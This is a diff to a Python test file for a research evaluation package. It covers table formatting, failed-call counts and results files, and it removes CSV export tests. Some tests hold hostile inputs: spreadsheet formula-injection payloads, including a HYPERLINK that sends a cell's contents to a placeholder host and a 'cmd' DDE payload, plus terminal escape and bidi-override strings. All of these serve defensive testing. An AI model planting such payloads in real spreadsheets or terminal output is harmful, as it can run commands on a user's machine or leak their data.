@@ -1,6 +1,5 @@
 """Means, intervals, the paper's tables and comparisons, against independently computed numbers."""
 
-import csv
 import json
 import random
 import re
@@ -22,7 +21,7 @@ from prompt_r1.evaluation.results_folder import (
     results_table,
     write_results,
 )
-from prompt_r1.evaluation.tables import Entry, Table, rates_to_csv, to_markdown
+from prompt_r1.evaluation.tables import Entry, Table, to_markdown
 from prompt_r1.metrics.statistics import macro_interval, wilson
 from tests.evaluation.predictions import DIRECT, predict, predict_all, question_of
 from tests.metrics.test_statistics import exact_sign_flip
@@ -99,7 +98,7 @@ def test_failed_calls_are_counted_and_do_not_lower_the_mean():
     assert (means["n"], means["errors"], means["em"]) == (2, 1, 0.5)
 
 
-def test_every_format_of_a_table_shows_failed_calls():
+def test_a_table_shows_failed_calls():
     """A mean over fewer questions than its neighbour's is marked with its n and the number of errors."""
     complete = [predict(number, system=COT, setting="c") for number in range(4)]
     incomplete = [predict(number, error="HTTP 500" if number == 3 else "") for number in range(4)]
@@ -107,11 +106,6 @@ def test_every_format_of_a_table_shows_failed_calls():
     header, _, row = cells_of(to_markdown(table))[:3]
     assert header[2:] == ["direct", "cot"]
     assert row[2].endswith("] (n 3, 1 errors)") and row[3].endswith("]")
-    rates = [
-        rate for rate in csv.DictReader(rates_to_csv([table]).splitlines()) if rate["row"].endswith("EM")
-    ]
-    counts = {rate["column"]: (rate["n"], rate["errors"]) for rate in rates}
-    assert counts == {"direct": ("3", "1"), "cot": ("4", "0")}
 
 
 def test_an_average_weights_datasets_equally_and_a_pooled_mean_weights_questions_equally():
@@ -202,10 +196,12 @@ def test_tables_2_to_5_have_the_layout_and_the_numbers_of_the_paper():
         for agent in trained:
             rows += predict_all(drawn(7, 0.8), System("prompt-r1", environment, agent))
     rows += predict_all(drawn(5, 0.1), System("agent-only", agent="runs/a"))
-    tables = {table.name: table for table in paper_tables(score_predictions(rows), trained)}
-    assert {"table2", "table3", "table4", "table5"} <= set(tables)
+    tables = {}
+    for table in paper_tables(score_predictions(rows), trained):
+        tables.setdefault(table.title.partition(":")[0], table)  # with the first environment
+    assert list(tables) == ["Table 2", "Table 3", "Table 4", "Table 5"]
 
-    wide = cells_of(to_markdown(tables["table2"]))
+    wide = cells_of(to_markdown(tables["Table 2"]))
     alone = ["Qwen3-4B, paper", "CoT (Qwen3-4B), paper"]
     assert wide[0] == ["dataset", "metric", "direct", "prompt-r1", "agent-only", *alone]
     hotpot = next(line for line in wide if line[:2] == ["HotpotQA (n = 16)", "EM"])
@@ -217,13 +213,13 @@ def test_tables_2_to_5_have_the_layout_and_the_numbers_of_the_paper():
     assert average[2].startswith(f"{100 * mean(sum(drawn(0, 0.4)[name]) / 16 for name in names):.1f} [")
     assert ["", "EM, paper", "34.89", "44.01", "", "23.70", "22.27"] in wide
 
-    ablations = cells_of(to_markdown(tables["table4"]))
+    ablations = cells_of(to_markdown(tables["Table 4"]))
     labels = [line[0] for line in ablations[2:]]
     assert labels[::2] == ["w/o Env.", "w/o Agent", "Prompt-R1 (Full)"]
     assert labels[1::2] == [f"{label}, paper" for label in labels[::2]]
     assert ablations[3][1:3] == ["41.41", "43.48"] and "XSum (n = 16) F1" in ablations[0]
 
-    transfer = {line[0]: line for line in cells_of(to_markdown(tables["table5"]))}
+    transfer = {line[0]: line for line in cells_of(to_markdown(tables["Table 5"]))}
     squad = transfer[""].index("SQuAD v2 (n = 16) EM")
     home = "trained with gpt-4o-mini, tested with gpt-oss-20b@http://x/v1"
     assert transfer[f"{home}, paper"][squad] == "8.59" and len(transfer) == 1 + 1 + 12
@@ -262,7 +258,7 @@ def test_the_papers_numbers_are_shown_with_its_environments_only():
     assert [title for title, found in ablations.items() if found] == [
         "Table 4: ablations, environment gpt-4o-mini"
     ]
-    [transfer] = [paper_rows(table) for table in tables if table.name == "table5"]
+    [transfer] = [paper_rows(table) for table in tables if table.title.startswith("Table 5")]
     assert transfer.keys() == {("gpt-4o-mini alone",)}, "it is unknown how runs/a was trained"
 
 
@@ -270,7 +266,7 @@ AWKWARD = r"50%|a_b & {c} #1 $2 ~x ^y \z"
 
 
 def test_special_characters_do_not_break_the_columns_of_markdown():
-    table = Table("t", "T", ("dataset",), {((AWKWARD,), ("a|b",)): Entry(number=1)})
+    table = Table("T", ("dataset",), {((AWKWARD,), ("a|b",)): Entry(number=1)})
     lines = to_markdown(table).splitlines()[2:]
     assert {len(re.findall(r"(?<!\\)\|", line)) for line in lines} == {3}
     assert r"a\|b" in lines[0] and r"50%\|a_b" in lines[2]
@@ -303,14 +299,14 @@ HOSTILE = "t\x1b[2J\x1b]0;owned\a\u202eabc\u200b\x85\u2028\nx|y"
 
 
 def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tmp_path):
-    """They come from files of others, and are shown by terminals, editors and spreadsheets."""
+    """They come from files of others, and are shown by terminals and editors."""
     full = System("prompt-r1", "large", f"runs/{HOSTILE}")
     rows = [*predict_all({HOSTILE: [True] * 8, "b": [True]}, full)]
     rows += predict_all({HOSTILE: [False] * 8}, System("prompt-r1", "large", "runs/z"))
     rows += predict_all({HOSTILE: [False] * 8, "b": [False]})
     text = write_results(tmp_path, score_predictions(rows), {})
     written = {path.name: path.read_text("utf-8") for path in tmp_path.iterdir()}
-    assert {"cells.csv", "tables.md"} <= written.keys()
+    assert "tables.md" in written
     for name, content in [("printed", text), *written.items()]:
         hidden = {letter for letter in content if not letter.isprintable() and letter != "\n"}
         assert not hidden, f"{name}: {hidden}"
@@ -318,17 +314,6 @@ def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tmp
     for table in (written["results.md"], written["tables.md"]):
         lines = [line for line in table.splitlines() if line.startswith("|")]
         assert lines and all(line.endswith("|") for line in lines)
-    rows_of_csv = list(csv.reader(written["cells.csv"].splitlines()))
-    assert len({len(row) for row in rows_of_csv}) == 1
-
-
-@pytest.mark.parametrize(
-    "name", ['=HYPERLINK("http://x/"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1"]
-)
-def test_a_name_cannot_become_a_formula_of_a_spreadsheet(name):
-    results = score_predictions(predict_all({name: [True]}))
-    for cells in csv.reader(rates_to_csv(paper_tables(results, {})).splitlines()):
-        assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)
 
 
 # --- Comparisons ------------------------------------------------------------------------------------------
@@ -390,7 +375,7 @@ def test_an_evaluation_folder_contains_every_file_even_if_no_question_was_answer
     text = write_results(tmp_path, score_predictions([predict(error="down")]), {})
     assert text.splitlines()[1].split() == ["direct", "0", "1"]  # n and errors
     assert "| direct | towns | 0 | 1 | – |" in (tmp_path / "results.md").read_text("utf-8")
-    assert {"results.md", "results.json", "tables.md", "cells.csv", "comparisons.md"} <= {
+    assert {"results.md", "results.json", "tables.md", "comparisons.md"} <= {
         path.name for path in tmp_path.iterdir()
     }
 
